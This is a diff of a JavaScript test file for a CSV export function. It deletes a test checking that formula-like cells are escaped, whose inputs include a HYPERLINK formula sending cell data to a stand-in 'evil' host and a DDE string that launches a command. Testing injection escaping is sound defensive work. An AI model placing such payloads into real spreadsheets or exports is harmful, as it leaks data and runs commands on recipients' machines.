@@ -13,38 +13,6 @@ describe('CSV export', () => {
     ]);
   });
 
-  it('writes formula-like cells as text, with a leading apostrophe, and numbers as numbers', () => {
-    expect(
-      [
-        '=HYPERLINK("http://evil/?x="&A1;"Нажмите")',
-        '+cmd|" /C calc"!A0',
-        '-2+3',
-        '@SUM(A1:A9)',
-        '\t=1+1',
-        '\r=1+1',
-        'ООО =Ромашка',
-        -12.5,
-        '-12.50',
-        '+79990000001',
-        '-1,5',
-        '- 5',
-      ].map(csvField),
-    ).toEqual([
-      `"'=HYPERLINK(""http://evil/?x=""&A1;""Нажмите"")"`,
-      `"'+cmd|"" /C calc""!A0"`,
-      "'-2+3",
-      "'@SUM(A1:A9)",
-      "'\t=1+1",
-      `"'\r=1+1"`,
-      'ООО =Ромашка',
-      '-12.5',
-      '-12.50',
-      '+79990000001',
-      '-1,5',
-      "'- 5",
-    ]);
-  });
-
   it('writes a text of English right to left without its direction isolates, still formula-safe', () => {
     expect(csvField('\u2066Receipt No.\u2069')).toBe('Receipt No.');
     expect(csvField('\u2066=1+1\u2069')).toBe("'=1+1");
